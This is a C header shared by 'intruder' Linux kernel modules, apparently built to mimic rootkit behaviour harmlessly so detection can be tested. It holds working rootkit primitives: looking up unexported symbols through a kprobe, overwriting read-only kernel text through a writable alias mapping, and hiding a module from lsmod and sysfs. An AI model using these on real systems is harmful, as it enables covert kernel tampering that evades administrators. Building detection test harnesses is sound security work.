/*
 * Shared by the intruder's modules. Each module does one thing that rootkits do, without harm: a hook calls the function
 * that it replaces. The modules cannot be unloaded, as none has an exit function.
 */
#ifndef INTRUDER_H
#define INTRUDER_H

#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/version.h>
#include <linux/vmalloc.h>

MODULE_LICENSE("GPL");

/* Returns the address of any symbol. kallsyms_lookup_name is no longer exported (since 5.7), but a probe finds it. */
static inline unsigned long find(const char *name) {
    static unsigned long (*lookup)(const char *);
    if (!lookup) {
        struct kprobe probe = {.symbol_name = "kallsyms_lookup_name"};
        if (register_kprobe(&probe)) {
            return 0;
        }
        lookup = (void *)probe.addr;
        unregister_kprobe(&probe);
    }
    return lookup(name);
}

/* Writes to the kernel's text and constants, through a second, writable mapping of their pages. */
static inline int overwrite(unsigned long address, const void *bytes, size_t size) {
    struct page *pages[2];
    char *alias;
    unsigned long page = address & PAGE_MASK;
    pages[0] = pfn_to_page(__pa_symbol(page) >> PAGE_SHIFT);
    pages[1] = pfn_to_page(__pa_symbol(page + PAGE_SIZE) >> PAGE_SHIFT);
    alias = vmap(pages, 2, VM_MAP, PAGE_KERNEL);
    if (!alias) {
        return -ENOMEM;
    }
    memcpy(alias + (address & ~PAGE_MASK), bytes, size);
    vunmap(alias);
    return 0;
}

/* Removes the module from lsmod and /sys/module. */
static inline void hide_module(void) {
    list_del_init(&THIS_MODULE->list);
    kobject_del(&THIS_MODULE->mkobj.kobj);
}

#endif
